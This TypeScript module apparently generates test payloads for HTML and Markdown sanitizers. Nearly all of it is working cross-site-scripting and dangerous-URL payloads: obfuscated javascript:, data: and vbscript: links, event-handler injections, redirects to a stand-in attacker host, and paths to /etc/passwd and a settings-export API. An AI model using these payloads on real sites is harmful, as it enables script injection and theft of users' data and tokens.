import { enemy, entities, type Recipe, zap } from "./payload.ts";

/** Addresses that run code instead of navigating, in spellings that browsers accept. */
const addresses: readonly Recipe[] = [
  (mark) => `javascript:${zap(mark)}`,
  (mark) => `JaVaScRiPt:${zap(mark)}`,
  (mark) => ` javascript:${zap(mark)}`,
  (mark) => `\u0001javascript:${zap(mark)}`,
  (mark) => `\u00a0javascript:${zap(mark)}`,
  (mark) => `java\tscript:${zap(mark)}`,
  (mark) => `java&Tab;script:${zap(mark)}`,
  (mark) => `java&NewLine;script:${zap(mark)}`,
  (mark) => `javascript&colon;${zap(mark)}`,
  (mark) => `&#106;avascript:${zap(mark)}`,
  (mark) => `&#x6A;avascript&#x3A;${zap(mark)}`,
  (mark) => `${entities("javascript:", (code) => `&#${code};`)}${zap(mark)}`,
  (mark) => `${entities("javascript:", (code) => `&#0000${code}`)};${zap(mark)}`,
  (mark) => `javascript%3A${zap(mark)}`,
  (mark) => `%6Aavascript:${zap(mark)}`,
  (mark) => `javascript://zap.test/%0A${zap(mark)}`,
  (mark) => `javascript:/*--></title></style></script>*/${zap(mark)}`,
  (mark) => `javascript:void(${zap(mark)})`,
  (mark) => `javascript:location="${enemy(mark)}"`,
  (mark) => `vbscript:${zap(mark)}`,
  (mark) => `livescript:${zap(mark)}`,
  (mark) => `data:text/html,<script>opener.${zap(mark)}</script>`,
  (mark) => `data:text/html;base64,${btoa(`<script>opener.${zap(mark)}</script>`)}#${mark}`,
  (mark) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${zap(mark)}'/>`,
  (mark) => `blob:http://zap.test/${mark}`,
  (mark) => `filesystem:http://zap.test/${mark}`,
  (mark) => `view-source:${enemy(mark)}`,
  (mark) => `file:///etc/passwd#${mark}`,
  (mark) => `about:blank#${mark}`,
  (mark) => `//zap.test/${mark}`,
  (mark) => `\\\\zap.test\\${mark}`,
  (mark) => `/\\zap.test/${mark}`,
  (mark) => `http:zap.test/${mark}`,
  (mark) => `https:///zap.test/${mark}`,
  (mark) => `http://127.0.0.1@zap.test/${mark}`,
  (mark) => `http://zap.test\\@127.0.0.1/${mark}`,
  (mark) => `http://zap.test/${mark}?token=%23token`,
  (mark) => `ws://zap.test/${mark}`,
  (mark) => `ftp://zap.test/${mark}`,
  (mark) => `mailto:a@zap.test?subject=${mark}&attach=/etc/passwd`,
  (mark) => `intent://zap.test/${mark}#Intent;scheme=http;end`,
  (mark) => `vscode://file/etc/passwd?${mark}`,
];

/** The same addresses in HTML. */
export const links: readonly Recipe[] = addresses.map((address) => (mark) => {
  return `<a href="${address(mark).replaceAll('"', "&quot;")}">${mark}</a>`;
});

/** The same addresses in Markdown: in a link, an image, angle brackets or a reference. */
const markdownLinks: readonly Recipe[] = addresses.map((address, index) => (mark) => {
  const target = address(mark);
  const forms = [
    `[${mark}](<${target}>)`,
    `![${mark}](<${target}>)`,
    `[${mark}][r]\n\n[r]: <${target}> "title"`,
    `<${target}>`,
  ];
  return forms[index % forms.length] ?? target;
});

/** Other ways to hide HTML in Markdown or to load something. */
export const markdown: readonly Recipe[] = [
  ...markdownLinks,
  (mark) => `[${mark}](javascript:${zap(mark)})`,
  (mark) => `[${mark}]( javascript:${zap(mark)} "t")`,
  (mark) => `[${mark}](javascript&#58;${zap(mark)})`,
  (mark) => `[${mark}](\\javascript:${zap(mark)})`,
  (mark) => `![${mark}](${enemy(mark)})`,
  (mark) => `![" onerror=${zap(mark)} x="](x)`,
  (mark) => `![x](x "onerror=${zap(mark)}")`,
  (mark) => `[x](x "\\" onmouseover=${zap(mark)} x=\\"")`,
  (mark) => `[<img src=x onerror=${zap(mark)}>](x)`,
  (mark) => `[![${mark}](${enemy(mark)})](${enemy(mark)})`,
  (mark) => `<${enemy(mark)}">`,
  (mark) => `${enemy(mark)}"onmouseover="${zap(mark)}`,
  (mark) => `www.zap.test/${mark}`,
  (mark) => `\`\`\`html\n<img src=x onerror=${zap(mark)}>\n\`\`\``,
  (mark) => `\`\`\`"><img src=x onerror=${zap(mark)}>\ncode\n\`\`\``,
  (mark) => `\`<img src=x onerror=${zap(mark)}>\``,
  (mark) => `    <img src=x onerror=${zap(mark)}>`,
  (mark) => `<details><summary>${mark}</summary>\n\n<img src=x onerror=${zap(mark)}>\n\n</details>`,
  (mark) => `<!-- ${mark} --><img src=x onerror=${zap(mark)}><!-- -->`,
  (mark) => `| a |\n|:--:|\n| <img src=x onerror=${zap(mark)}> |`,
  (mark) => `1. <b onclick=${zap(mark)}>${mark}</b>\n2. x`,
  (mark) => `> <svg onload=${zap(mark)}>`,
  (mark) => `# <img src=x onerror=${zap(mark)}>`,
  (mark) => `---\ntitle: <img src=x onerror=${zap(mark)}>\n---\n`,
  (mark) => `[^1]\n\n[^1]: <img src=x onerror=${zap(mark)}>`,
  (mark) => `$$\\href{javascript:${zap(mark)}}{${mark}}$$`,
  (mark) => `$\\unicode{<img src=x onerror=${zap(mark)}>}$`,
  (mark) => `[[${mark}|javascript:${zap(mark)}]]`,
  (mark) => `[${mark}](../../../../etc/passwd)`,
  (mark) => `[${mark}](/api/tasks?${mark})`,
  (mark) => `![${mark}](/api/settings/export)`,
  (mark) => `[${mark}](/#token=${mark})`,
];
